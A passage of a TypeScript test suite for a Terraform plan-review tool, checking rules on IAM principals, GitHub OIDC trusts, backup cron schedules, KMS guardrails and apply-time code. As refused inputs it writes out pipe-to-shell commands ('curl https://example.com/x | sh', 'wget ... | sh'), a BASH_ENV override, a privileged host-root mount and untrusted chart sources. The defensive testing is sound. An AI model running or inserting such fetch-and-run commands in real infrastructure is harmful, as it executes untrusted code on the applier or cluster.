/**
 * The plan review's whole-plan rules on hand-written plan JSON: who a policy lets in (principals.ts, PR-IAM-1),
 * AWS cron schedules (backup-schedule.ts, PR-BACKUP-4), the key guardrails (PR-KMS-5) and apply-time code
 * (apply-time-code.ts, PR-CODE-1), with the approved list checked against every command the stacks synthesize.
 * Real plans of the AWS classes: plan-review-classes-real.test.ts.
 */
import { BUILT_IN_DIR, builtIn } from "./support/environments";
import { stackAccounts } from "../scripts/plan-review";
import { synthApp } from "./support/stacks";
import { podsOf, podText, provisionersOf, sha256 } from "../src/review/apply-time-code";
import { APPROVED_COMMANDS } from "../src/review/approved-commands";
import { KARPENTER } from "../src/constructs/addons/karpenter/pins";
import { chartProblem, releaseHookProblem } from "../src/review/helm-charts";
import { ALLOWED_PROVIDERS, isAllowedDataSource } from "../src/review/plan-time-code";
import { readSchedule } from "../src/review/backup-schedule";
import { AccountScope, accountsOfCondition, admittedBy, isAllowedPrincipal } from "../src/review/principals";
import { planRuleFindings } from "../src/review/plan-rules";
import { PlanInput } from "../src/review/plan-rules/types";

type Json = Record<string, any>;
const OWN = "222222222222";
const OTHER = "444455556666";
const scope = { trusted: [OWN] };

const policy = (...statements: Json[]) => JSON.stringify({ Version: "2012-10-17", Statement: statements });
const allow = (principal: unknown, extra: Json = {}) => ({
  Effect: "Allow",
  Principal: principal,
  Action: "s3:GetObject",
  Resource: "*",
  ...extra,
});

/** A plan of one created (or, with a before, updated) resource. */
function planOf(type: string, after: Json, before?: Json, afterUnknown: Json = {}, address = `${type}.X`): PlanInput {
  return {
    resource_changes: [
      {
        address,
        mode: "managed",
        type,
        change: { actions: [before ? "update" : "create"], before: before ?? null, after, after_unknown: afterUnknown },
      },
    ],
  };
}
const findings = (plan: PlanInput, production = true, accounts = scope) =>
  planRuleFindings({ stack: "prod-data", production, accounts, plan });
const rulesOf = (plan: PlanInput, production = true) => findings(plan, production).map((f) => f.rule);

describe("who a policy lets in", () => {
  test.each([
    ["an ARN of another account", { AWS: `arn:aws:iam::${OTHER}:root` }, OTHER],
    ["a bare account id", { AWS: OTHER }, OTHER],
    ["a role of another account, in a list", { AWS: [`arn:aws:iam::${OWN}:role/a`, `arn:aws:iam::${OTHER}:role/b`] }, OTHER],
    ["an assumed-role session (sts)", { AWS: `arn:aws:sts::${OTHER}:assumed-role/r/s` }, OTHER],
    ["* as a string", "*", "*"],
    ["AWS *", { AWS: "*" }, "*"],
    ["a unique id (a deleted role): its account cannot be told", { AWS: "AROAEXAMPLEID12345678" }, "?"],
    ["a web identity provider that is not an account's", { Federated: "accounts.google.com" }, "?"],
    ["a canonical user", { CanonicalUser: "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be" }, "?"],
    ["a service that is not an AWS service principal", { Service: "evil.example.com" }, "?"],
  ])("%s is refused", (_what, principal, account) => {
    const admitted = admittedBy(policy(allow(principal)))!;
    const foreign = admitted.filter((a) => !isAllowedPrincipal(a, "aws_s3_bucket_policy", scope));
    expect(foreign.map((a) => a.account)).toEqual([account]);
  });

  test("NotPrincipal in an Allow lets in everyone but those named", () => {
    expect(admittedBy(policy({ Effect: "Allow", NotPrincipal: { AWS: `arn:aws:iam::${OWN}:root` }, Action: "*" }))![0].account).toBe("*");
  });

  test.each([
    ["the own account root", { AWS: `arn:aws:iam::${OWN}:root` }],
    ["a role of the own account", { AWS: `arn:aws:iam::${OWN}:role/x` }],
    ["Pod Identity's service principal", { Service: "pods.eks.amazonaws.com" }],
    ["a regional service principal", { Service: "logs.eu-central-1.amazonaws.com" }],
  ])("%s passes", (_what, principal) => {
    expect(admittedBy(policy(allow(principal)))!.filter((a) => !isAllowedPrincipal(a, "aws_iam_role", scope))).toEqual([]);
  });

  describe("federated principals (hand-written trust policies)", () => {
    const GITHUB = `arn:aws:iam::${OWN}:oidc-provider/token.actions.githubusercontent.com`;
    const REPO = "road-warrior/infrastructure";
    const withRepo = { trusted: [OWN], githubRepositories: [REPO] };
    const web = (provider: string, condition?: Json, action: unknown = "sts:AssumeRoleWithWebIdentity") =>
      admittedBy(
        policy({ Effect: "Allow", Principal: { Federated: provider }, Action: action, ...(condition ? { Condition: condition } : {}) }),
      )!;
    const passes = (admitted: ReturnType<typeof web>, s: AccountScope = withRepo) =>
      admitted.every((a) => isAllowedPrincipal(a, "aws_iam_role", s));
    const aud = { "token.actions.githubusercontent.com:aud": "sts.amazonaws.com" };
    const pinnedTo = (sub: unknown, test = "StringEquals") =>
      test === "StringEquals"
        ? { StringEquals: { ...aud, "token.actions.githubusercontent.com:sub": sub } }
        : { StringEquals: aud, [test]: { "token.actions.githubusercontent.com:sub": sub } };

    test("GitHub's provider of the own account passes: aud sts.amazonaws.com, sub pinned to a listed repository", () => {
      expect(passes(web(GITHUB, pinnedTo(`repo:${REPO}:environment:prod`)))).toBe(true);
      expect(passes(web(GITHUB, pinnedTo([`repo:${REPO}:ref:refs/heads/main`, `repo:${REPO}:pull_request`])))).toBe(true);
      expect(passes(web(GITHUB, pinnedTo(`repo:${REPO}:environment:*`, "StringLike")))).toBe(true);
    });

    test.each([
      ["no sub condition at all: every repository on GitHub can assume the role", { StringEquals: aud }],
      ["sub of a repository no environment file names", pinnedTo("repo:attacker/infrastructure:ref:refs/heads/main")],
      ["a wildcard before the repository's end", pinnedTo("repo:road-warrior/*", "StringLike")],
      ["a wildcard owner", pinnedTo("repo:*/infrastructure:*", "StringLike")],
      ["one pinned value and one open value", pinnedTo([`repo:${REPO}:pull_request`, "repo:*"], "StringLike")],
      [
        "sub only under StringLikeIfExists (matches a token without the claim)",
        { StringEquals: aud, StringLikeIfExists: { "token.actions.githubusercontent.com:sub": `repo:${REPO}:*` } },
      ],
      ["no aud condition", { StringEquals: { "token.actions.githubusercontent.com:sub": `repo:${REPO}:pull_request` } }],
      [
        "an aud other than sts.amazonaws.com",
        {
          StringEquals: {
            "token.actions.githubusercontent.com:aud": "api://x",
            "token.actions.githubusercontent.com:sub": `repo:${REPO}:pull_request`,
          },
        },
      ],
    ])("a GitHub trust is refused with %s", (_what, condition) => {
      expect(passes(web(GITHUB, condition))).toBe(false);
    });

    test("a GitHub trust is refused when no environment file names a repository, or for actions beyond web identity", () => {
      expect(passes(web(GITHUB, pinnedTo(`repo:${REPO}:pull_request`)), scope)).toBe(false);
      expect(passes(web(GITHUB, pinnedTo(`repo:${REPO}:pull_request`), ["sts:AssumeRoleWithWebIdentity", "sts:AssumeRole"]))).toBe(false);
      expect(passes(web(GITHUB, pinnedTo(`repo:${REPO}:pull_request`), ["sts:AssumeRoleWithWebIdentity", "sts:TagSession"]))).toBe(true);
    });

    test("GitHub's provider of another account is refused even with a pinned subject", () => {
      expect(passes(web(GITHUB.replace(OWN, OTHER), pinnedTo(`repo:${REPO}:pull_request`)))).toBe(false);
    });

    test("an EKS cluster's provider passes only with sub pinned by StringEquals to named service accounts", () => {
      const host = "oidc.eks.eu-central-1.amazonaws.com/id/ABCDEF0123456789";
      const eks = `arn:aws:iam::${OWN}:oidc-provider/${host}`;
      expect(passes(web(eks, { StringEquals: { [`${host}:sub`]: "system:serviceaccount:trips:trips-api" } }))).toBe(true);
      expect(passes(web(eks, { StringLike: { [`${host}:sub`]: "system:serviceaccount:*:*" } }))).toBe(false);
      expect(passes(web(eks, { StringEquals: { [`${host}:aud`]: "sts.amazonaws.com" } }))).toBe(false);
    });

    test.each([
      ["a SAML provider", `arn:aws:iam::${OWN}:saml-provider/corp`],
      ["Cognito identity", "cognito-identity.amazonaws.com"],
      ["another OIDC provider of the own account", `arn:aws:iam::${OWN}:oidc-provider/gitlab.com`],
    ])("%s is refused whatever its condition", (_what, provider) => {
      expect(passes(web(provider, pinnedTo(`repo:${REPO}:pull_request`)))).toBe(false);
    });
  });

  test("Deny statements let no one in (the TLS-only Deny and the key guardrails name *)", () => {
    expect(
      admittedBy(policy({ Effect: "Deny", Principal: "*", Action: "s3:*", Condition: { Bool: { "aws:SecureTransport": "false" } } })),
    ).toEqual([]);
  });

  test("* with a condition pinning the caller's account to the own account passes; to another account, or IfExists, it does not", () => {
    const pinned = (condition: Json) =>
      admittedBy(policy(allow("*", { Condition: condition })))!.filter((a) => !isAllowedPrincipal(a, "aws_sqs_queue_policy", scope));
    expect(pinned({ StringEquals: { "aws:PrincipalAccount": OWN } })).toEqual([]);
    expect(pinned({ StringEquals: { "aws:SourceAccount": [OWN] } })).toEqual([]);
    expect(pinned({ StringEquals: { "kms:CallerAccount": OWN } })).toEqual([]);
    expect(pinned({ ArnLike: { "aws:SourceArn": `arn:aws:cloudwatch:eu-central-1:${OWN}:alarm:*` } })).toEqual([]);
    expect(pinned({ StringEquals: { "aws:PrincipalAccount": OTHER } }).map((a) => a.account)).toEqual([OTHER]);
    expect(pinned({ StringEqualsIfExists: { "aws:PrincipalAccount": OWN } }).map((a) => a.account)).toEqual(["*"]);
    expect(pinned({ StringLike: { "aws:PrincipalAccount": "*" } }).map((a) => a.account)).toEqual(["?"]);
    expect(pinned({ StringEquals: { "aws:PrincipalOrgID": "o-abc" } }).map((a) => a.account)).toEqual(["*"]);
  });

  test("two pinned keys: the caller must match both", () => {
    expect(accountsOfCondition({ StringEquals: { "aws:PrincipalAccount": [OWN, OTHER], "aws:SourceAccount": OWN } })).toEqual([OWN]);
  });

  test("the ELB log-delivery account passes only in a bucket policy that lets it put objects", () => {
    const elb = { AWS: "arn:aws:iam::054676820928:root" };
    const put = admittedBy(policy({ Effect: "Allow", Principal: elb, Action: "s3:PutObject", Resource: "arn:aws:s3:::b/*" }))!;
    expect(put.every((a) => isAllowedPrincipal(a, "aws_s3_bucket_policy", scope))).toBe(true);
    const read = admittedBy(policy({ Effect: "Allow", Principal: elb, Action: ["s3:PutObject", "s3:GetObject"], Resource: "*" }))!;
    expect(read.some((a) => isAllowedPrincipal(a, "aws_s3_bucket_policy", scope))).toBe(false);
    expect(put.some((a) => isAllowedPrincipal(a, "aws_kms_key", scope))).toBe(false);
  });

  test("an account the environment file lists in trustedAccountIds passes", () => {
    const admitted = admittedBy(policy(allow({ AWS: `arn:aws:iam::${OTHER}:root` })))!;
    expect(admitted.every((a) => isAllowedPrincipal(a, "aws_s3_bucket_policy", { trusted: [OWN, OTHER] }))).toBe(true);
  });
});

describe("PR-IAM-1 on plans", () => {
  const trust = (principal: unknown) => policy({ Effect: "Allow", Principal: principal, Action: "sts:AssumeRole" });

  test("a role trust that admits another account is refused, in production and non-production alike", () => {
    const plan = planOf("aws_iam_role", { assume_role_policy: trust({ AWS: `arn:aws:iam::${OTHER}:root` }) });
    expect(rulesOf(plan, true)).toEqual(["PR-IAM-1"]);
    expect(rulesOf(plan, false)).toEqual(["PR-IAM-1"]);
    expect(findings(plan)[0]).toMatchObject({
      address: "aws_iam_role.X",
      attribute: "assume_role_policy",
      after: expect.stringContaining(OTHER),
    });
  });

  test("a principal of the prior state whose actions widen or whose condition loosens is checked again (hand-written plans)", () => {
    const GITHUB = `arn:aws:iam::${OWN}:oidc-provider/token.actions.githubusercontent.com`;
    const aud = { "token.actions.githubusercontent.com:aud": "sts.amazonaws.com" };
    const githubTrust = (condition: Json, action: unknown = "sts:AssumeRoleWithWebIdentity") =>
      policy({ Sid: "Ci", Effect: "Allow", Principal: { Federated: GITHUB }, Action: action, Condition: condition });
    const pinned = { StringEquals: { ...aud, "token.actions.githubusercontent.com:sub": "repo:road-warrior/infrastructure:pull_request" } };
    const withRepo = { trusted: [OWN], githubRepositories: ["road-warrior/infrastructure"] };
    const old = { assume_role_policy: githubTrust(pinned) };
    // The same pinned trust with the keys in another order is the same grant: not refused.
    const reordered = {
      StringEquals: { "token.actions.githubusercontent.com:sub": "repo:road-warrior/infrastructure:pull_request", ...aud },
    };
    expect(findings(planOf("aws_iam_role", { assume_role_policy: githubTrust(reordered) }, old), true, withRepo)).toEqual([]);
    // The pin on the subject dropped: any GitHub repository could now assume the role.
    const loosened = planOf("aws_iam_role", { assume_role_policy: githubTrust({ StringEquals: aud }) }, old);
    expect(findings(loosened, true, withRepo).map((f) => f.after)).toEqual([expect.stringContaining("sub is not pinned")]);
    // Another account's principal, admitted before for reading, now may write too.
    const reader = (action: unknown) => ({
      policy: policy({ Sid: "Partner", ...allow({ AWS: `arn:aws:iam::${OTHER}:root` }), Action: action }),
    });
    const widened = planOf("aws_s3_bucket_policy", reader(["s3:GetObject", "s3:DeleteObject"]), reader("s3:GetObject"));
    expect(findings(widened).map((f) => f.rule)).toEqual(["PR-IAM-1"]);
  });

  test("a trust already in the prior state is not refused again by an unrelated update; a new one is", () => {
    const old = { assume_role_policy: trust({ AWS: `arn:aws:iam::${OTHER}:root` }), tags: {} };
    expect(rulesOf(planOf("aws_iam_role", { ...old, tags: { a: "b" } }, old))).toEqual([]);
    const widened = trust({ AWS: [`arn:aws:iam::${OTHER}:root`, "arn:aws:iam::777788889999:root"] });
    expect(findings(planOf("aws_iam_role", { assume_role_policy: widened }, old)).map((f) => f.after)).toEqual([
      expect.stringContaining("777788889999"),
    ]);
  });

  test("a policy known only after apply is refused in production (it cannot be shown safe), not in non-production", () => {
    const plan = planOf("aws_s3_bucket_policy", { bucket: "b" }, undefined, { policy: true });
    expect(rulesOf(plan, true)).toEqual(["PR-IAM-1"]);
    expect(rulesOf(plan, false)).toEqual([]);
  });

  test("a Lambda permission for another account, and a KMS grant to one, are refused; an own-account source passes", () => {
    expect(rulesOf(planOf("aws_lambda_permission", { principal: OTHER }))).toEqual(["PR-IAM-1"]);
    expect(rulesOf(planOf("aws_lambda_permission", { principal: "s3.amazonaws.com", source_account: OTHER }))).toEqual(["PR-IAM-1"]);
    expect(rulesOf(planOf("aws_lambda_permission", { principal: "s3.amazonaws.com", source_account: OWN }))).toEqual([]);
    expect(rulesOf(planOf("aws_kms_grant", { grantee_principal: `arn:aws:iam::${OTHER}:role/r` }))).toEqual(["PR-IAM-1"]);
  });

  test("an EKS access entry may name a role of cluster.allowedAdminAccountIds; other policies may not", () => {
    const accounts = { trusted: [OWN], adminAccounts: [OTHER] };
    const entry = planOf("aws_eks_access_entry", { principal_arn: `arn:aws:iam::${OTHER}:role/ops` });
    expect(findings(entry, true, accounts)).toEqual([]);
    expect(findings(planOf("aws_iam_role", { assume_role_policy: trust({ AWS: OTHER }) }), true, accounts)).toHaveLength(1);
  });
});

describe("AWS cron schedules (PR-BACKUP-4)", () => {
  test.each([
    ["cron(0 3 * * ? *)", 1],
    ["cron(0 5 ? * SUN *)", 7],
    ["cron(30 2 ? * MON-FRI *)", 3],
    ["cron(0 */6 * * ? *)", 1],
    ["cron(0 3 */2 * ? *)", 2],
    ["cron(0 3 1,8,15,22 * ? *)", 10],
    ["cron(0 3 1 * ? *)", 31],
  ])("%s fires, at most %i days apart", (expression, gap) => {
    expect(readSchedule(expression)).toEqual({ fires: true, maxGapDays: gap });
  });

  test.each([
    ["cron(0 3 1 1 ? 2099)", /year field/],
    ["cron(0 3 * * ? 2020-2021)", /year field/],
    ["cron(0 3 30 2 ? *)", /matches no day/],
    ["cron(0 3 * * * *)", /exactly one of/],
    ["cron(0 3 ? * ? *)", /exactly one of/],
    ["cron(0 3 L * ? *)", /L, W or #/],
    ["cron(0 3 ? * 2#1 *)", /L, W or #/],
    ["cron(0 24 * * ? *)", /out of range/],
    ["cron(0 3 * *)", /4 fields/],
    ["rate(1 day)", /not cron/],
    ["", /no schedule/],
    [undefined, /no schedule/],
  ])("%s does not count as firing", (expression, problem) => {
    const reading = readSchedule(expression);
    expect(reading.fires).toBe(false);
    expect(!reading.fires && reading.problem).toMatch(problem);
  });

  const plan = (...schedules: (string | undefined)[]) =>
    planOf("aws_backup_plan", { name: "p", rule: schedules.map((schedule, i) => ({ rule_name: `r${i}`, schedule })) });

  test("a production plan none of whose rules fires every 7 days is refused; a weekly rule beside a yearly one passes", () => {
    expect(rulesOf(plan("cron(0 3 1 1 ? 2099)"))).toEqual(["PR-BACKUP-4"]);
    expect(rulesOf(plan(undefined))).toEqual(["PR-BACKUP-4"]);
    expect(rulesOf(plan("cron(0 3 1 * ? *)"))).toEqual(["PR-BACKUP-4"]);
    expect(rulesOf(plan("cron(0 3 1 1 ? *)", "cron(0 5 ? * SUN *)"))).toEqual([]);
    expect(rulesOf(plan("cron(0 3 1 1 ? 2099)"), false)).toEqual([]);
  });
});

describe("KMS key guardrails (PR-KMS-5)", () => {
  const guard = (action: string, sid: string, condition?: Json) => ({
    Sid: sid,
    Effect: "Deny",
    Principal: { AWS: "*" },
    Action: action,
    Resource: "*",
    ...(condition ? { Condition: condition } : {}),
  });
  const breakGlass = { ArnNotEquals: { "aws:PrincipalArn": `arn:aws:iam::${OWN}:role/break-glass` } };
  const root = { Sid: "Root", Effect: "Allow", Principal: { AWS: `arn:aws:iam::${OWN}:root` }, Action: "kms:*", Resource: "*" };
  const guarded = policy(
    root,
    guard("kms:ScheduleKeyDeletion", "A", breakGlass),
    guard("kms:DisableKey", "B", breakGlass),
    guard("kms:PutKeyPolicy", "C", breakGlass),
  );

  test("an update that drops or loosens a guardrail is refused; re-ordering statements or renaming a Sid is not", () => {
    const dropped = policy(root, guard("kms:ScheduleKeyDeletion", "A", breakGlass), guard("kms:DisableKey", "B", breakGlass));
    expect(rulesOf(planOf("aws_kms_key", { policy: dropped }, { policy: guarded }))).toEqual(["PR-KMS-5"]);
    const loosened = policy(
      root,
      guard("kms:ScheduleKeyDeletion", "A", { ArnNotLike: { "aws:PrincipalArn": "arn:aws:iam::*:role/*" } }),
      guard("kms:DisableKey", "B", breakGlass),
      guard("kms:PutKeyPolicy", "C", breakGlass),
    );
    expect(rulesOf(planOf("aws_kms_key_policy", { policy: loosened }, { policy: guarded }))).toEqual(["PR-KMS-5"]);
    const reordered = policy(
      guard("kms:PutKeyPolicy", "Z", breakGlass),
      root,
      guard("kms:DisableKey", "B", breakGlass),
      guard("kms:ScheduleKeyDeletion", "A", breakGlass),
    );
    expect(rulesOf(planOf("aws_kms_key", { policy: reordered }, { policy: guarded }))).toEqual([]);
  });

  test("a new key policy resource (it replaces the key's own policy) without the guardrails is refused in production", () => {
    expect(rulesOf(planOf("aws_kms_key_policy", { key_id: "k", policy: policy(root) }))).toEqual(["PR-KMS-5"]);
    expect(rulesOf(planOf("aws_kms_key_policy", { key_id: "k", policy: guarded }))).toEqual([]);
    expect(rulesOf(planOf("aws_kms_key_policy", { key_id: "k", policy: policy(root) }), false)).toEqual([]);
    expect(rulesOf(planOf("aws_kms_key", { policy: policy(root) }))).toEqual([]);
  });

  test("a key policy that lets another account decrypt is refused (PR-IAM-1)", () => {
    const decrypt = { Effect: "Allow", Principal: { AWS: `arn:aws:iam::${OTHER}:root` }, Action: "kms:Decrypt", Resource: "*" };
    const after = policy(
      root,
      guard("kms:ScheduleKeyDeletion", "A", breakGlass),
      guard("kms:DisableKey", "B", breakGlass),
      guard("kms:PutKeyPolicy", "C", breakGlass),
      decrypt,
    );
    expect(rulesOf(planOf("aws_kms_key", { policy: after }, { policy: guarded }))).toEqual(["PR-IAM-1"]);
  });
});

describe("apply-time code (PR-CODE-1)", () => {
  const configuration = (provisioner: Json) => ({
    root_module: {
      resources: [{ address: "terraform_data.Step", mode: "managed", type: "terraform_data", name: "Step", provisioners: [provisioner] }],
      module_calls: {
        inner: {
          module: {
            resources: [{ address: "null_resource.N", mode: "managed", type: "null_resource", name: "N", provisioners: [provisioner] }],
          },
        },
      },
    },
  });
  const localExec = (command: unknown, extra: Json = {}) => ({
    type: "local-exec",
    expressions: { command: command === undefined ? { references: ["var.x"] } : { constant_value: command }, ...extra },
  });
  const approved = APPROVED_COMMANDS[1];

  test("a provisioner whose command is not approved is refused in every module, in every stack, whatever its resource's action", () => {
    const plan: PlanInput = { resource_changes: [], configuration: configuration(localExec("curl https://example.com/x | sh")) };
    const found = findings(plan, false);
    expect(found.map((f) => [f.rule, f.address])).toEqual([
      ["PR-CODE-1", "terraform_data.Step"],
      ["PR-CODE-1", "module.inner.null_resource.N"],
    ]);
    expect(found[0].after).toContain(sha256("curl https://example.com/x | sh"));
  });

  test("an approved command passes only with its interpreter, its listed environment variables and no working_dir", () => {
    const ok = { interpreter: { constant_value: approved.interpreter } };
    const command = "unused";
    expect(provisionersOf(configuration(localExec(command, ok)))[0].problem).toMatch(/not in src\/review\/approved-commands.ts/);
    const text = "the approved text";
    const list = [{ ...approved, sha256: sha256(text) }];
    const one = (extra: Json) => provisionersOf(configuration(localExec(text, extra)), list)[0].problem;
    expect(one(ok)).toBeUndefined();
    expect(one({ interpreter: { constant_value: ["python3", "-c"] } })).toMatch(/interpreter/);
    expect(one({ ...ok, environment: { constant_value: { BASH_ENV: "/tmp/x" } } })).toMatch(/BASH_ENV/);
    expect(one({ ...ok, working_dir: { constant_value: "/tmp" } })).toMatch(/working_dir/);
  });

  test("a command given only as references, and a remote-exec, are refused", () => {
    expect(provisionersOf(configuration(localExec(undefined)))[0].problem).toMatch(/not a literal text/);
    expect(provisionersOf(configuration({ type: "remote-exec", expressions: {} }))[0].problem).toMatch(/only local-exec/);
  });

  // Hand-written: no Kubernetes provider binary here to plan them. The shapes are those of the provider's plan
  // (blocks as lists: spec[0].template[0].spec[0]) and of kubernetes_manifest (the object as written).
  const container = { name: "x", image: "alpine:3.20", command: ["sh", "-c"], args: ["wget -qO- http://x | sh"] };
  const podSpec = { container: [container] };
  const manifestPod = { containers: [container] };
  const typed = { spec: [{ template: [{ spec: [podSpec] }] }] };
  const manifest = (kind: string, spec: Json) => ({ manifest: { apiVersion: "apps/v1", kind, spec } });
  test.each([
    ["kubernetes_pod_v1", { spec: [podSpec] }, podSpec],
    ["kubernetes_pod", { spec: [podSpec] }, podSpec],
    ["kubernetes_deployment_v1", typed, podSpec],
    ["kubernetes_deployment", typed, podSpec],
    ["kubernetes_daemon_set_v1", typed, podSpec],
    ["kubernetes_daemonset", typed, podSpec],
    ["kubernetes_stateful_set_v1", typed, podSpec],
    ["kubernetes_replication_controller_v1", typed, podSpec],
    ["kubernetes_job_v1", { metadata: [{ name: "j" }], ...typed }, podSpec],
    ["kubernetes_job", typed, podSpec],
    [
      "kubernetes_cron_job_v1",
      { spec: [{ schedule: "* * * * *", job_template: [{ spec: [{ template: [{ spec: [podSpec] }] }] }] }] },
      podSpec,
    ],
    ["kubernetes_manifest", manifest("Pod", manifestPod), manifestPod],
    ["kubernetes_manifest", manifest("Deployment", { template: { spec: manifestPod } }), manifestPod],
    ["kubernetes_manifest", manifest("ReplicaSet", { template: { spec: manifestPod } }), manifestPod],
    ["kubernetes_manifest", manifest("StatefulSet", { template: { spec: manifestPod } }), manifestPod],
    ["kubernetes_manifest", manifest("DaemonSet", { template: { spec: manifestPod } }), manifestPod],
    ["kubernetes_manifest", manifest("Job", { template: { spec: manifestPod } }), manifestPod],
    ["kubernetes_manifest", manifest("CronJob", { jobTemplate: { spec: { template: { spec: manifestPod } } } }), manifestPod],
  ])("a created %s (hand-written plan JSON) runs code: refused unless its whole pod spec's hash is approved", (type, after, spec) => {
    expect(rulesOf(planOf(type, after), false)).toEqual(["PR-CODE-1"]);
    const [pod] = podsOf(type, after, {});
    expect(pod.sha256).toBe(sha256(podText(spec)));
    expect(
      podsOf(type, after, {}, [{ kind: "kubernetes-pod", sha256: pod.sha256!, source: "test", what: "test" }])[0].problem,
    ).toBeUndefined();
  });

  test("the hash covers the whole pod spec: a host path mount or a privileged container changes it (hand-written plan JSON)", () => {
    const base = manifest("DaemonSet", { template: { spec: manifestPod } });
    const approved = [
      { kind: "kubernetes-pod" as const, sha256: podsOf("kubernetes_manifest", base, {})[0].sha256!, source: "t", what: "t" },
    ];
    const mounted = manifest("DaemonSet", { template: { spec: { ...manifestPod, volumes: [{ name: "h", hostPath: { path: "/" } }] } } });
    const privileged = manifest("DaemonSet", {
      template: { spec: { containers: [{ ...container, securityContext: { privileged: true } }] } },
    });
    expect(podsOf("kubernetes_manifest", base, {}, approved)[0].problem).toBeUndefined();
    expect(podsOf("kubernetes_manifest", mounted, {}, approved)[0].problem).toMatch(/not in src\/review\/approved-commands.ts/);
    expect(podsOf("kubernetes_manifest", privileged, {}, approved)[0].problem).toMatch(/not in src\/review\/approved-commands.ts/);
  });

  test("each item of a List manifest that runs pods is judged (hand-written plan JSON)", () => {
    const list = {
      manifest: {
        apiVersion: "v1",
        kind: "List",
        items: [
          { apiVersion: "v1", kind: "ConfigMap", data: {} },
          { apiVersion: "v1", kind: "Pod", spec: manifestPod },
        ],
      },
    };
    expect(podsOf("kubernetes_manifest", list, {}).map((p) => p.attribute)).toEqual(["manifest.items[1].spec"]);
    expect(rulesOf(planOf("kubernetes_manifest", list))).toEqual(["PR-CODE-1"]);
  });

  test("a kubernetes_manifest of an inert kind passes; unknown kind, unknown pod spec or a custom kind is refused", () => {
    expect(rulesOf(planOf("kubernetes_manifest", { manifest: { apiVersion: "v1", kind: "ConfigMap", data: {} } }))).toEqual([]);
    expect(rulesOf(planOf("kubernetes_manifest", { manifest: {} }, undefined, { manifest: { kind: true } }))).toEqual(["PR-CODE-1"]);
    expect(rulesOf(planOf("kubernetes_manifest", { manifest: { apiVersion: "v1" } }))).toEqual(["PR-CODE-1"]);
    const job = { manifest: { kind: "Job", spec: { template: { spec: { containers: [container] } } } } };
    expect(
      rulesOf(planOf("kubernetes_manifest", job, undefined, { manifest: { spec: { template: { spec: { containers: true } } } } })),
    ).toEqual(["PR-CODE-1"]);
    // A custom resource's controller may start pods from it (an Argo Workflow, a Tekton TaskRun): its whole manifest is hashed.
    expect(
      rulesOf(planOf("kubernetes_manifest", { manifest: { apiVersion: "argoproj.io/v1alpha1", kind: "Workflow", spec: {} } })),
    ).toEqual(["PR-CODE-1"]);
  });
});

describe("Helm charts and plan-time code (PR-CODE-1, hand-written plan JSON)", () => {
  const release = (after: Json, before?: Json) => planOf("helm_release", { name: "r", values: ["{}"], ...after }, before);
  const karpenter = { repository: KARPENTER.repository, chart: KARPENTER.chart, version: KARPENTER.chartVersion };

  test("a release of a pinned chart, or of a local chart of the stack's assets, passes; its value changes pass", () => {
    expect(rulesOf(release(karpenter))).toEqual([]);
    expect(rulesOf(release({ chart: "./assets/BackendServiceChart/909831850221D35E36DCFC464A79E9A7", version: "2.0.0" }))).toEqual([]);
    const before = { name: "r", values: ['{"image":{"tag":"1"}}'], ...karpenter };
    expect(rulesOf(release({ ...karpenter, values: ['{"image":{"tag":"2"}}'] }, before))).toEqual([]);
  });

  test.each([
    ["a chart of another repository", { repository: "https://charts.example.com", chart: "anything", version: "1.0.0" }],
    ["a pinned chart at another version", { ...karpenter, version: "1.14.2" }],
    ["a pinned chart without a version (the newest)", { ...karpenter, version: "" }],
    ["a local chart outside the stack's assets", { chart: "../../tmp/evil" }],
    ["a chart given as a URL", { chart: "https://example.com/evil-1.0.0.tgz" }],
  ])("a created release of %s is refused", (_what, after) => {
    expect(rulesOf(release(after), false)).toEqual(["PR-CODE-1"]);
  });

  test("changing an installed release's chart or version is judged; one known only after apply is refused", () => {
    const before = { name: "r", values: ["{}"], ...karpenter };
    expect(rulesOf(release({ ...karpenter, chart: "other" }, before))).toEqual(["PR-CODE-1"]);
    expect(rulesOf(planOf("helm_release", { ...karpenter }, undefined, { version: true }))).toEqual(["PR-CODE-1"]);
  });

  test("a release with a postrender command or dependency_update (set, or known after apply) is refused: code on the applier", () => {
    const before = { name: "r", values: ["{}"], ...karpenter };
    const postrender = { binary_path: "/bin/sh", args: ["-c", "curl https://example.com | sh"] };
    expect(rulesOf(release({ ...karpenter, postrender }), false)).toEqual(["PR-CODE-1"]);
    expect(rulesOf(release({ ...karpenter, postrender }, before), false)).toEqual(["PR-CODE-1"]);
    expect(rulesOf(release({ ...karpenter, dependency_update: true }, before), false)).toEqual(["PR-CODE-1"]);
    expect(rulesOf(planOf("helm_release", { ...karpenter }, before, { postrender: { binary_path: true } }), false)).toEqual(["PR-CODE-1"]);
    expect(rulesOf(planOf("helm_release", { ...karpenter }, before, { dependency_update: true }), false)).toEqual(["PR-CODE-1"]);
    expect(rulesOf(release({ ...karpenter, postrender: null, dependency_update: false }, before))).toEqual([]);
  });

  test("a data source or provider off the allow-list is refused; the AWS data sources and remote state pass", () => {
    const configuration = (resources: Json[], providers: Json = {}) => ({
      resource_changes: [],
      configuration: { provider_config: providers, root_module: { resources } },
    });
    const data = (type: string) => ({ address: `data.${type}.x`, mode: "data", type, name: "x" });
    expect(rulesOf(configuration([data("aws_partition"), data("terraform_remote_state")]) as PlanInput)).toEqual([]);
    expect(rulesOf(configuration([data("external")]) as PlanInput)).toEqual(["PR-CODE-1"]);
    expect(rulesOf(configuration([data("http")]) as PlanInput)).toEqual(["PR-CODE-1"]);
    const provider = (full_name: string) => configuration([], { p: { name: "p", full_name } }) as PlanInput;
    expect(rulesOf(provider("registry.terraform.io/hashicorp/aws"))).toEqual([]);
    expect(rulesOf(provider("registry.terraform.io/hashicorp/helm"))).toEqual([]);
    expect(rulesOf(provider("registry.terraform.io/evil/aws"))).toEqual(["PR-CODE-1"]);
    expect(rulesOf(provider("registry.terraform.io/hashicorp/external"))).toEqual(["PR-CODE-1"]);
  });
});

describe("the cluster providers' exec command (PR-CODE-1, hand-written plan JSON)", () => {
  const ref = { references: ["data.terraform_remote_state.cluster.outputs.name", "data.terraform_remote_state.cluster"] };
  const exec = (fields: Json) => ({ api_version: { constant_value: "client.authentication.k8s.io/v1beta1" }, ...fields });
  const providers = (expressions: Json, full_name = "registry.terraform.io/hashicorp/kubernetes"): PlanInput =>
    ({
      resource_changes: [],
      configuration: { provider_config: { k: { name: "k", full_name, expressions } }, root_module: {} },
    }) as PlanInput;
  const token = { command: { constant_value: "aws" }, args: { constant_value: ["eks", "get-token", "--cluster-name", "x"] } };

